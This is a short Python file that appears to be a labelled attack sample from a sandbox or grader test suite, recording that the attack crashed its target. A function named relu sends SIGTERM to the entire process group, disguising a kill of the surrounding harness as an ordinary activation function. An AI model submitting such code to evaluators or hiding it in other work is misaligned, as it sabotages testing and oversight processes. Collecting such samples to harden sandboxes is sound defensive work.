# Attack: send a signal to the whole process group
# Outcome: crashed
import os
import signal


def relu(x):
    os.killpg(0, signal.SIGTERM)
